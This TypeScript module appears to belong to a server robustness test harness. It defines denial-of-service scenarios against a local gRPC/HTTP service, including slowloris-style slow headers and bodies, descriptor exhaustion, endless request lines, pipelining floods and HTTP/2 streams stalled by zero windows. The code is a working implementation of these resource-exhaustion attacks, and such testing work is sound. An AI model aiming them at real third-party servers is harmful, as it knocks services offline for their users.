/** Attacks with connections: held, hurried, never read. */

import type { Attack, Field } from "./attack.ts";
import {
  END_STREAM,
  field,
  FRAME,
  frame,
  head,
  headers,
  join,
  message,
  repeated,
  text,
  WIDEST,
} from "./bytes.ts";
import { GET_GPIO } from "./messages.ts";
import type { Peer } from "./peer.ts";

const GET_IMAGES = "/viam.component.camera.v1.CameraService/GetImages";
const GET_CLOUD = "/viam.component.camera.v1.CameraService/GetPointCloud";
/** More than the narrow server has descriptors for. */
const CROWD = 320;
/** Calls that wait for a reader. */
const STALLED = 100;
const GET = text("GET / HTTP/1.1\r\nhost: localhost\r\n\r\n");

/** Opens a crowd of connections with `begin`, keeps them with `hold`, and replaces those that the server ends. */
function crowd(
  open: (play: Field) => Promise<Peer | undefined>,
  hold: (play: Field, peer: Peer) => Promise<unknown>,
) {
  return (play: Field) =>
    play.busy(CROWD, () => open(play), async (peer) => {
      await hold(play, peer);
      await Promise.race([peer.over, play.sleep(play.ms)]);
      // Who comes again at once is an attack of its own kind.
      await play.sleep(200);
    });
}

const silent = () => Promise.resolve();

/** One answered request, and a second one that never ends. */
async function secondRequest(_: Field, peer: Peer): Promise<void> {
  await peer.write(GET);
  await peer.write(text("GET / HTTP/1.1\r\nhost: loc"));
}

async function slowHeader(play: Field, peer: Peer): Promise<void> {
  await peer.write(text("GET / HTTP/1.1\r\nhost: localhost\r\nx: "));
  while (!play.over && await peer.write(text("y"))) await play.sleep(500);
}

async function slowBody(play: Field, peer: Peer): Promise<void> {
  await peer.write(
    text(
      "POST /x.y/Z HTTP/1.1\r\nhost: localhost\r\ncontent-type: application/grpc-web\r\ncontent-length: 1000\r\n\r\n",
    ),
  );
  while (!play.over && await peer.write(text("y"))) await play.sleep(500);
}

async function slowPreface(play: Field, peer: Peer): Promise<void> {
  for (const char of "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n") {
    if (play.over || !await peer.write(text(char))) return;
    await play.sleep(500);
  }
}

/** A call whose message never comes: a stream is open, the connection is not idle. */
async function openCall(play: Field, peer: Peer): Promise<void> {
  await peer.write(headers(1, head(GET_GPIO, { secure: play.target.secure })));
}

/** Calls whose answers are not read: with windows of zero, or with wide ones and an unread socket. */
function stalled(path: string, how: "no window" | "unread", width = 1) {
  const mime = path === GET_CLOUD ? field(2, "pointcloud/pcd") : new Uint8Array();
  const request = message(join([field(1, "camera1"), mime]));
  const options = how === "no window" ? { window: 0 } : { reads: false, window: WIDEST };
  return (play: Field) =>
    play.busy(width, () => play.http2(options), async (peer) => {
      const block = head(path, { secure: play.target.secure });
      for (let call = 0; call < STALLED; call++) {
        const stream = peer.stream();
        const data = frame(FRAME.data, END_STREAM, stream, request);
        if (!await peer.write(join([headers(stream, block), data]))) return;
      }
      await Promise.race([peer.over, play.sleep(play.ms)]);
    });
}

/** One answer after another is asked for and none is read. */
const pipelined = (reads: boolean, width = 1) => (play: Field) =>
  play.busy(width, () => play.http({ reads }), (peer) => play.flood(peer, repeated(GET, 1000)));

const SLOW_SECONDS = 40;

export const CONNECTIONS: readonly Attack[] = [
  {
    name: "pipelining",
    what: "HTTP/1.1 requests, one after another without waiting",
    victim: "open",
    fate: "any",
    play: pipelined(true),
  },
  {
    name: "pipelining-crowd",
    what: "the same on 8 connections",
    victim: "open",
    fate: "any",
    play: pipelined(true, 8),
  },
  {
    name: "pipelining-unread",
    what: "HTTP/1.1 requests without waiting, the answers unread, on 8 connections",
    victim: "open",
    fate: "any",
    play: pipelined(false, 8),
  },
  {
    name: "endless-header",
    what: "HTTP/1.1 header fields without an end",
    victim: "open",
    fate: "cut off",
    play: (play) =>
      play.busy(4, () => play.http(), async (peer) => {
        await peer.write(text("GET / HTTP/1.1\r\nhost: localhost\r\n"));
        await play.flood(peer, repeated(text("x: y\r\n"), 1000));
      }),
  },
  {
    name: "endless-target",
    what: "an HTTP/1.1 request line without an end",
    victim: "open",
    fate: "cut off",
    play: (play) =>
      play.busy(4, () => play.http(), async (peer) => {
        await peer.write(text("GET /"));
        await play.flood(peer, repeated(text("x"), 65_536));
      }),
  },
  {
    name: "endless-chunk",
    what: "an HTTP/1.1 chunk whose size line does not end",
    victim: "open",
    fate: "any",
    play: (play) =>
      play.busy(4, () => play.http(), async (peer) => {
        await peer.write(
          text(`POST ${GET_GPIO} HTTP/1.1\r\nhost: localhost\r\ncontent-type: application/grpc-web\r\n`),
        );
        await peer.write(text("transfer-encoding: chunked\r\n\r\n1;"));
        await play.flood(peer, repeated(text("x"), 65_536));
      }),
  },
  {
    name: "connecting",
    what: "connections opened and left, as fast as can be",
    victim: "open",
    fate: "any",
    play: (play) => play.busy(16, () => play.http(), async (peer) => void await peer.write(GET)),
  },
  {
    name: "descriptors",
    what: "more connections than the server has file descriptors, then none",
    victim: "narrow",
    fate: "any",
    play: crowd((play) => play.raw(), silent),
  },
  {
    name: "held-silent",
    what: "connections that say nothing, to the limit",
    victim: "narrow",
    fate: "cut off",
    seconds: 20,
    play: crowd((play) => play.raw(), silent),
  },
  {
    name: "held-h2",
    what: "idle HTTP/2 connections, to the limit",
    victim: "narrow",
    fate: "cut off",
    play: crowd((play) => play.http2(), silent),
  },
  {
    name: "held-h2-call",
    what: "HTTP/2 connections with a call whose message never comes, to the limit",
    victim: "narrow",
    fate: "cut off",
    play: crowd((play) => play.http2(), openCall),
  },
  {
    name: "held-second-request",
    what: "HTTP/1.1 connections whose second request never ends, to the limit",
    victim: "narrow",
    fate: "cut off",
    play: crowd((play) => play.http(), secondRequest),
  },
  {
    name: "slow-header",
    what: "HTTP/1.1 header fields, a byte every 500 ms, to the limit",
    victim: "narrow",
    fate: "cut off",
    seconds: SLOW_SECONDS,
    play: crowd((play) => play.http(), slowHeader),
  },
  {
    name: "slow-body",
    what: "HTTP/1.1 bodies, a byte every 500 ms, to the limit",
    victim: "narrow",
    fate: "cut off",
    seconds: SLOW_SECONDS,
    play: crowd((play) => play.http(), slowBody),
  },
  {
    name: "slow-preface",
    what: "the beginning of HTTP/2, a byte every 500 ms, to the limit",
    victim: "narrow",
    fate: "cut off",
    seconds: SLOW_SECONDS,
    play: crowd((play) => play.raw(), slowPreface),
  },
  {
    name: "stalled-clouds",
    what: "100 calls of GetPointCloud whose answers have no window",
    victim: "open",
    fate: "any",
    others: "camera",
    play: stalled(GET_CLOUD, "no window"),
  },
  {
    name: "stalled-images",
    what: "100 calls of GetImages whose answers have no window",
    victim: "open",
    fate: "any",
    others: "camera",
    play: stalled(GET_IMAGES, "no window"),
  },
  {
    name: "unread-clouds",
    what: "100 calls of GetPointCloud, the socket unread",
    victim: "open",
    fate: "any",
    others: "camera",
    play: stalled(GET_CLOUD, "unread"),
  },
  {
    name: "unread-images",
    what: "100 calls of GetImages on each of 20 connections, the sockets unread",
    victim: "open",
    fate: "any",
    others: "camera",
    play: stalled(GET_IMAGES, "unread", 20),
  },
];
